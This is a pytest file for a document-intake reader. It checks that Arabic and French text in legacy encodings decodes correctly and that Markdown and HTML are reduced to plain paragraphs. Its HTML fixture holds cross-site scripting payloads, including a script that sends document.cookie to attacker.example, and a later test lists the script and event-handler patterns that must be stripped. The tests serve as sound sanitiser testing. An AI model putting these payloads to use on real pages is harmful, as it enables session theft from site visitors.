"""Plain text in the encodings people still send, Markdown without its markup, and HTML
with nothing executable left."""

import pytest

from gcmreview.intake.reading import (
    UnreadableFile,
    check_upload,
    decode_text,
    read_document,
    sanitize_html,
)
from gcmreview.intake.tests.files import SAMPLES

AR = SAMPLES["ar"]["paragraphs"]
FR = SAMPLES["fr"]["paragraphs"]


def test_arabic_text_in_windows_1256_is_read_back_correctly():
    text = f"{AR[0]}\r\n\r\n{AR[1]}\r\n"
    data = text.encode("cp1256")
    assert check_upload("ملخص.txt", data, max_bytes=10**6) == ("ملخص.txt", "txt")
    extracted = read_document(data, "txt")
    assert extracted.encoding == "cp1256"
    assert extracted.pages[0].paragraphs == AR[:2]


def test_french_text_in_latin_1_is_read_back_correctly():
    # Short French text is where open detection goes wrong (cp1250 reads "è" as "č").
    text = "Synthèse des échanges\n\nÉlargir les voies régulières.\n"
    extracted = read_document(text.encode("latin-1"), "txt")
    assert extracted.encoding in ("cp1252", "latin_1")
    assert extracted.pages[0].paragraphs == [
        "Synthèse des échanges",
        "Élargir les voies régulières.",
    ]


def test_french_text_in_windows_1252_keeps_its_typographic_apostrophes():
    extracted = read_document((FR[0] + "\n\n" + FR[2]).encode("cp1252"), "txt")
    assert extracted.pages[0].paragraphs == [FR[0], FR[2]]


@pytest.mark.parametrize(
    ("encoding", "name"),
    [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("utf-16", "utf-16")],
)
def test_unicode_text_with_or_without_a_byte_order_mark_is_read(encoding, name):
    text = "\n\n".join([AR[0], FR[0], "Regular pathways must widen."])
    extracted = read_document(text.encode(encoding), "txt")
    assert extracted.encoding == name
    assert extracted.pages[0].paragraphs == [AR[0], FR[0], "Regular pathways must widen."]
    assert extracted.pages[0].number is None


def test_text_lines_are_joined_and_list_items_kept_apart():
    text = (
        "Participants agreed that protecting the rights of\r"
        "migrant workers is a shared responsibility.\r\r"
        "Recommendations:\n"
        "1. Expand regular pathways.\n"
        "2. End the detention of children.\n"
        "- Lower the cost of remittances\n"
        "١. توسيع المسارات النظامية\n"
    )
    assert read_document(text.encode(), "txt").pages[0].paragraphs == [
        "Participants agreed that protecting the rights of migrant workers is a shared "
        "responsibility.",
        "Recommendations:",
        "1. Expand regular pathways.",
        "2. End the detention of children.",
        "- Lower the cost of remittances",
        "١. توسيع المسارات النظامية",
    ]


def test_text_that_is_not_text_is_refused():
    with pytest.raises(UnreadableFile) as caught:
        decode_text(b"\x01\x02\x03\x04" * 100 + b"plain")
    assert caught.value.code == "type_mismatch"


def test_markdown_is_read_without_its_markup_keeping_headings_and_list_items():
    source = """# Key messages from the *national* consultation

Participants **stressed** that [regular pathways](https://example.org) must widen,
including for `domestic work`.

- Ease access to justice.
- Lower the cost of remittances.

3. Expand circular migration.
4. End child detention.

> Quoted from a delegation.

| Objective | Message |
|-----------|---------|
| 5 | Regular pathways |
"""
    extracted = read_document(source.encode(), "md")
    assert extracted.file_type == "md"
    assert extracted.extractor.startswith("markdown-it-py ")
    assert extracted.pages[0].paragraphs == [
        "Key messages from the national consultation",
        "Participants stressed that regular pathways must widen, including for domestic work.",
        "• Ease access to justice.",
        "• Lower the cost of remittances.",
        "3. Expand circular migration.",
        "4. End child detention.",
        "Quoted from a delegation.",
        "Objective",
        "Message",
        "5",
        "Regular pathways",
    ]


def test_arabic_markdown_keeps_its_text_and_numbering():
    source = "## الرسائل الرئيسية\n\n1. " + AR[0] + "\n2. " + AR[1] + "\n"
    assert read_document(source.encode(), "md").pages[0].paragraphs == [
        "الرسائل الرئيسية",
        f"1. {AR[0]}",
        f"2. {AR[1]}",
    ]


def test_markdown_with_raw_html_loses_its_script():
    source = 'Safe text.\n\n<div onclick="steal()">Block text<script>alert(1)</script></div>\n'
    extracted = read_document(source.encode(), "md")
    assert extracted.pages[0].paragraphs == ["Safe text.", "Block text"]


HOSTILE_HTML = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Summary</title>
<style>body { background: url(javascript:alert(1)) }</style>
<script>document.location = 'https://attacker.example/?c=' + document.cookie</script></head>
<body onload="alert('x')">
<h1>Key <em>messages</em></h1>
<p onclick="alert('clicked')">Participants agreed on <a href="javascript:alert(2)">regular
   pathways</a>.<br>Second line.</p>
<ul><li>Ease access to justice.</li><li>Lower remittance costs.</li></ul>
<ol start="3"><li>Expand circular migration.</li></ol>
<table><tr><td>Objective 5</td><td>Regular pathways</td></tr></table>
<img src="x" onerror="alert(3)">
<iframe src="https://attacker.example"></iframe>
<p>أكد المشاركون على <b>أهمية</b> التعاون.</p>
</body></html>"""


def test_html_is_sanitised_and_read_as_block_paragraphs_with_line_breaks_joined():
    extracted = read_document(HOSTILE_HTML.encode(), "html")
    assert extracted.pages[0].paragraphs == [
        "Key messages",
        "Participants agreed on regular pathways. Second line.",
        "• Ease access to justice.",
        "• Lower remittance costs.",
        "3. Expand circular migration.",
        "Objective 5",
        "Regular pathways",
        "أكد المشاركون على أهمية التعاون.",
    ]
    assert "alert" not in extracted.text and "document.cookie" not in extracted.text


def test_sanitised_html_keeps_no_script_style_or_event_handler():
    clean = sanitize_html(HOSTILE_HTML)
    for bad in ("<script", "<style", "onclick", "onload", "onerror", "javascript:", "<iframe",
                "href", "<img"):  # fmt: skip
        assert bad not in clean
    assert "Participants agreed on" in clean


def test_html_in_windows_1256_declared_by_meta_charset_is_read():
    page = f'<html><head><meta charset="windows-1256"></head><body><p>{AR[2]}</p></body></html>'
    extracted = read_document(page.encode("cp1256"), "html")
    assert extracted.encoding == "windows-1256"
    assert extracted.pages[0].paragraphs == [AR[2]]
